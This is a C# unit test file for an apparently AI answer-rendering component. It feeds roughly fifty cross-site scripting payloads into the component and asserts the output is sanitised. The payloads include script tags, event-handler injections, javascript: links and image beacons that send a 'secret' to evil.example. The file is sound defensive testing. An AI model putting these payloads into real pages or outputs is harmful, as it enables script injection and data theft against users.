using AiApp.Web.Components.Pages.Ask;
using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Microsoft.AspNetCore.Components;
using Microsoft.AspNetCore.Components.Web;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;

namespace AiApp.Web.Tests.Answers;

/// <summary>What a browser would get: the component is rendered and its HTML is parsed again.</summary>
public sealed class AnswerContentTests
{
    private static readonly HashSet<string> Harmless =
    [
        "p", "ul", "ol", "li", "strong", "em", "code", "pre", "blockquote", "br", "hr", "table", "thead", "tbody", "tr", "th", "td",
        "h3", "h4", "h5", "h6", "a", "span", "button",
    ];

    private static readonly HashSet<string> HarmlessAttributes =
        ["class", "href", "rel", "target", "id", "role", "type", "aria-describedby", "data-cite", "data-marker", "data-evidence-opener"];

    public static TheoryData<string> Attacks =>
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext></p><style><img src onerror=alert(1)></style></mtext></math>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<form action=//evil.example><input name=q><button>Send</button></form>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](java&#10;script:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](vbscript:msgbox(1))",
        "[x](file:///etc/passwd)",
        "[x](https://allowed.example/\" onmouseover=\"alert(1))",
        "[x](<https://allowed.example/\" onmouseover=\"alert(1)>)",
        "[x](https://allowed.example/ '\" onclick=alert(1) x=\"')",
        "![x](https://evil.example/pixel.png?q=secret)",
        "![x](javascript:alert(1))",
        "![x][r]\n\n[r]: https://evil.example/pixel.png",
        "<javascript:alert(1)>",
        "<https://evil.example/\"onclick=alert(1)>",
        "`<script>alert(1)</script>`",
        "```\"><script>alert(1)</script>\nx\n```",
        "```html onload=alert(1)\n<img src=x onerror=alert(1)>\n```",
        "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
        "# <img src=x onerror=alert(1)> {onclick=alert(1)}",
        "x {#id onclick=alert(1) .class}",
        "[1]<img src=x onerror=alert(1)>",
        "[1](javascript:alert(1))",
        "\uE000<script>alert(1)</script>\uE001",
        "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
        "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<p><table><title></table><img src=x onerror=alert(1)></title>",
        "<select><template><img src=x onerror=alert(1)></template></select>",
        "<details open ontoggle=alert(1)>x</details>",
        "<x contenteditable onbeforeinput=alert(1)>x</x>",
        "<body onload=alert(1)>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import url(//evil.example/x.css)</style>",
    ];

    [Theory]
    [MemberData(nameof(Attacks))]
    public async Task Hostile_output_of_a_model_becomes_harmless(string attack)
    {
        foreach (var markdown in new[] { attack, $"Before {attack} after [1]", $"- {attack}", $"> {attack}", $"**{attack}**" })
        {
            foreach (var element in (await RenderAsync(markdown)).QuerySelectorAll("*"))
            {
                Assert.Contains(element.LocalName, Harmless);
                Assert.All(
                    element.Attributes.Where(attribute => !attribute.Name.StartsWith("b-", StringComparison.Ordinal)), // CSS scopes
                    attribute => Assert.Contains(attribute.Name, HarmlessAttributes));
                if (element.LocalName == "a")
                {
                    Assert.StartsWith("https://allowed.example/", element.GetAttribute("href"), StringComparison.Ordinal);
                    Assert.Contains("noopener", element.GetAttribute("rel"), StringComparison.Ordinal);
                }
            }
        }
    }

    [Fact]
    public async Task A_hostile_quote_or_title_is_shown_as_text()
    {
        var citation = TestCitations.Citation(1, "<img src=x onerror=alert(1)>") with { Title = "<script>alert(1)</script>" };

        var body = await RenderAsync("Fact [1].", citation);

        Assert.Empty(body.QuerySelectorAll("img, script"));
        Assert.Contains("<img src=x onerror=alert(1)>", body.QuerySelector("[role=tooltip]")!.TextContent, StringComparison.Ordinal);
    }

    private static async Task<IElement> RenderAsync(string markdown, Contracts.CitationDto? citation = null)
    {
        await using var services = new ServiceCollection().AddLogging().BuildServiceProvider();
        await using var renderer = new HtmlRenderer(services, services.GetRequiredService<ILoggerFactory>());
        var html = await renderer.Dispatcher.InvokeAsync(async () =>
        {
            var output = await renderer.RenderComponentAsync<AnswerContent>(ParameterView.FromDictionary(new Dictionary<string, object?>
            {
                [nameof(AnswerContent.Markdown)] = markdown,
                [nameof(AnswerContent.Citations)] = TestCitations.Of(citation ?? TestCitations.Citation(1)),
                [nameof(AnswerContent.LinkHosts)] = new HashSet<string> { "allowed.example" },
            }));
            return output.ToHtmlString();
        });
        return new HtmlParser().ParseDocument(html).Body!;
    }
}
